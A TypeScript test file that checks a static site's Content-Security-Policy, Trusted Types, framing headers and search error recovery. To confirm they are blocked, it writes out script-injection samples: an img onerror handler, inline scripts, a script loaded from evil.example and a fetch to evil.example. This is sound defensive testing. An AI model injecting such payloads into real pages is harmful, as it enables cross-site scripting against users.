import {fromHtml} from 'hast-util-from-html'
import type {Element, Nodes} from 'hast'
import type {Browser, BrowserContext, Page, Route} from 'playwright-core'
import {readdirSync, readFileSync} from 'node:fs'
import {join} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {serveSite, type Served} from '../../scripts/serve/static-server.ts'
import {launchBrowser} from '../browser.ts'
import {builtSite} from '../built-site.ts'

let dir: string
let served: Served
let browser: Browser

beforeAll(async () => {
  dir = await builtSite()
})

const STRICT = {
  'default-src': ["'none'"], 'style-src': ["'self'"], 'img-src': ["'self'"], 'manifest-src': ["'self'"], 'form-action': ["'self'"], 'base-uri': ["'none'"],
  'require-trusted-types-for': ["'script'"], 'trusted-types': ["'none'"],
}

/** The whole policy that each kind of page must have; nothing more, nothing less. */
const POLICIES: Record<string, Record<string, string[]>> = {
  'no script': {...STRICT, 'script-src': ["'none'"]},
  'scripts of the site': {...STRICT, 'script-src': ["'self'"]},
  'search': {...STRICT, 'script-src': ["'self'", "'wasm-unsafe-eval'"], 'connect-src': ["'self'"], 'worker-src': ["'self'"], 'trusted-types': ['jiezhi-search']},
}

describe('every page', () => {
  it('has the strictest policy that it can work with, before anything else is loaded, and nothing that the policy would have to allow', () => {
    const wrong: string[] = []
    let count = 0
    for (const file of readdirSync(dir, {recursive: true, encoding: 'utf8'}).filter((name) => name.endsWith('.html'))) {
      count++
      const elements = elementsOf(fromHtml(readFileSync(join(dir, file), 'utf8')))
      // A page that only leads on has nothing but that.
      if (elements.some(({properties}) => properties.httpEquiv?.toString() === 'refresh')) continue
      const at = elements.findIndex(({properties}) => properties.httpEquiv?.toString().toLowerCase() === 'content-security-policy')
      const first = elements.findIndex(({tagName}) => ['link', 'script', 'style', 'img', 'base'].includes(tagName))
      if (at === -1 || at > first) wrong.push(`${file}: no policy before the first resource`)
      const scripts = elements.filter(({tagName, properties}) => tagName === 'script' && properties.src !== undefined)
      const kind = file.startsWith('search/') ? 'search' : scripts.length > 0 ? 'scripts of the site' : 'no script'
      const policy = readPolicy(String(elements[at]?.properties.content ?? ''))
      if (JSON.stringify(sorted(policy)) !== JSON.stringify(sorted(POLICIES[kind]!))) wrong.push(`${file}: ${kind}: ${JSON.stringify(policy)}`)
      for (const {tagName, properties} of elements) {
        if (tagName === 'style' || tagName === 'base' || tagName === 'iframe' || tagName === 'object' || tagName === 'embed') wrong.push(`${file}: <${tagName}>`)
        if (tagName === 'script' && properties.src === undefined && properties.type !== 'application/ld+json') wrong.push(`${file}: inline script`)
        for (const name of Object.keys(properties)) if (/^on/iu.test(name) || name === 'style') wrong.push(`${file}: ${tagName} ${name}`)
        const rel = ([] as unknown[]).concat(properties.rel ?? [])
        const away = tagName === 'a' && /^(?:[a-z]+:)?\/\//iu.test(String(properties.href ?? ''))
        if (away && !rel.includes('noreferrer') && !String(properties.href).startsWith('https://example.org/')) wrong.push(`${file}: ${String(properties.href)} without noreferrer`)
      }
    }
    expect(wrong.slice(0, 10)).toEqual([])
    expect(count).toBeGreaterThan(50)
  })

  it('is asked to keep framing away by the headers for hosts', () => {
    const headers = readFileSync(join(dir, '_headers'), 'utf8')
    for (const line of ["frame-ancestors 'none'", 'X-Content-Type-Options: nosniff', 'X-Frame-Options: DENY', 'Referrer-Policy: same-origin', 'Cross-Origin-Opener-Policy: same-origin']) expect(headers).toContain(line)
    expect(readFileSync('docs/trust.md', 'utf8')).toContain("add_header Content-Security-Policy \"frame-ancestors 'none'; object-src 'none'; base-uri 'none'\"")
  })
})

describe('in a browser', () => {
  beforeAll(async () => {
    served = await serveSite({dir, port: 0})
    browser = await launchBrowser()
  })
  afterAll(async () => {
    await browser?.close()
    await served?.close()
  })

  it.each(['', 'articles'])('the policy stops what a text might smuggle in: /%s', async (folder) => {
    const {page, context} = await open()
    const path = folder === '' ? '' : `${folder}/${readdirSync(join(dir, folder)).sort()[0]}/`
    await page.goto(served.address + path)
    const outcome = await page.evaluate(async () => {
      const violations: string[] = []
      addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
      const flags = globalThis as unknown as {ran?: boolean}
      const attempt = (work: () => void) => { try { work() } catch { violations.push('thrown') } }
      attempt(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=true">') })
      attempt(() => { const script = document.createElement('script'); script.textContent = 'window.ran=true'; document.body.append(script) })
      attempt(() => { const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script) })
      attempt(() => { document.body.setAttribute('onclick', 'window.ran=true'); document.body.click() })
      attempt(() => { void fetch('https://evil.example/') .catch(() => {}) })
      attempt(() => { new Worker('/x.js') })
      await new Promise((done) => setTimeout(done, 200))
      return {ran: flags.ran === true, thrown: violations.filter((name) => name === 'thrown').length, directives: [...new Set(violations)].sort()}
    })
    expect(outcome.ran).toBe(false)
    // Trusted Types refuse text as markup, as script and as the address of a script or worker.
    expect(outcome.thrown).toBeGreaterThanOrEqual(4)
    expect(outcome.directives).toContain('connect-src')
    await context.close()
  })

  it('Trusted Types let the search page make a worker of the site and no other', async () => {
    const {page, context} = await open()
    await page.goto(`${served.address}search/`)
    await page.waitForSelector('#search[data-ready]', {state: 'attached'})
    const thrown = await page.evaluate(() => {
      const attempts = [() => new Worker('https://evil.example/w.js'), () => new Worker('/pagefind/pagefind.js'), () => (document.body.innerHTML = '<b>'), () => (globalThis as unknown as {trustedTypes: {createPolicy(name: string, rules: object): unknown}}).trustedTypes.createPolicy('other', {})]
      return attempts.filter((attempt) => { try { attempt(); return false } catch { return true } }).length
    })
    expect(thrown).toBe(4)
    await context.close()
  })

  it.each([
    ['the program is damaged', '**/wasm.*.pagefind', givesNonsense],
    ['a byte of the program has changed', '**/wasm.*.pagefind', changesByte],
    ['a part of the index is damaged', '**/pagefind/i-*/*.pack', givesNonsense],
    ['a byte of a part of the index has changed', '**/pagefind/i-*/*.pack', changesByte],
    ['a part of the index was cut off', '**/pagefind/i-*/*.pack', cutsOff],
    ['the host gives a page for a part of the index', '**/pagefind/i-*/*.pack', givesPage],
    ['the host has lost a part of the index', '**/pagefind/i-*/*.pack', losesIt],
    ['a byte of the texts has changed', '**/pagefind/d-*/*.pack', changesByte],
    ['the host has lost the texts', '**/pagefind/d-*/*.pack', losesIt],
    ['the list of the index is damaged', '**/search.json', givesNonsense],
  ])('the reader is told when %s, can go on by the lists, and can try again', async (_, files, fault) => {
    const {page, context} = await open()
    await context.route(files, fault)
    await page.goto(`${served.address}search/?q=${encodeURIComponent('街道')}`)
    await failsAndRecovers(page, /检索没有成功/u, () => context.unrouteAll(WHEN_ANSWERED))
    await context.close()
  })

  it('the reader is told when the network is gone', async () => {
    const {page, context} = await open()
    await page.goto(`${served.address}search/`)
    await page.waitForSelector('#search[data-ready]', {state: 'attached'})
    await context.setOffline(true)
    await page.fill('#q', '街道')
    await page.press('#q', 'Enter')
    await failsAndRecovers(page, /没有联网|检索没有成功/u, () => context.setOffline(false))
    await context.close()
  })
})

// A request that is still being answered is waited for: taken away under its handler, the route is handled twice.
const WHEN_ANSWERED = {behavior: 'wait'} as const
const givesNonsense = (route: Route) => route.fulfill({body: '{'})
const givesPage = (route: Route) => route.fulfill({contentType: 'text/html', body: '<!doctype html><title>没有这一页</title>'})
const losesIt = (route: Route) => route.fulfill({status: 404, body: ''})
const cutsOff = (route: Route) => damages(route, (body) => body.subarray(0, -9))
const changesByte = (route: Route) => damages(route, (body) => body.fill(body[body.length >> 1]! ^ 1, body.length >> 1, (body.length >> 1) + 1))

async function damages(route: Route, damage: (body: Buffer) => Buffer): Promise<void> {
  const response = await route.fetch()
  await route.fulfill({response, body: damage(await response.body())})
}

async function failsAndRecovers(page: Page, says: RegExp, mend: () => Promise<unknown>): Promise<void> {
  const notice = page.locator('#search-failure').filter({hasText: says})
  await notice.waitFor({state: 'visible'})
  expect(await notice.getByRole('link').count()).toBeGreaterThan(4)
  await mend()
  await notice.getByRole('button', {name: '重试'}).click()
  await page.waitForSelector('#search-results li')
  await notice.waitFor({state: 'hidden'})
}

async function open(): Promise<{page: Page; context: BrowserContext}> {
  const context = await browser.newContext()
  return {page: await context.newPage(), context}
}

function elementsOf(node: Nodes): Element[] {
  return [...(node.type === 'element' ? [node] : []), ...('children' in node ? node.children.flatMap((child) => elementsOf(child as Nodes)) : [])]
}

function readPolicy(text: string): Record<string, string[]> {
  return Object.fromEntries(text.split(';').map((part) => part.trim().split(/\s+/u)).filter(([name]) => name).map(([name, ...values]) => [name!, values]))
}

function sorted(policy: Record<string, string[]>): [string, string[]][] {
  return Object.entries(policy).map(([name, values]): [string, string[]] => [name, [...values].sort()]).sort(([a], [b]) => (a < b ? -1 : 1))
}
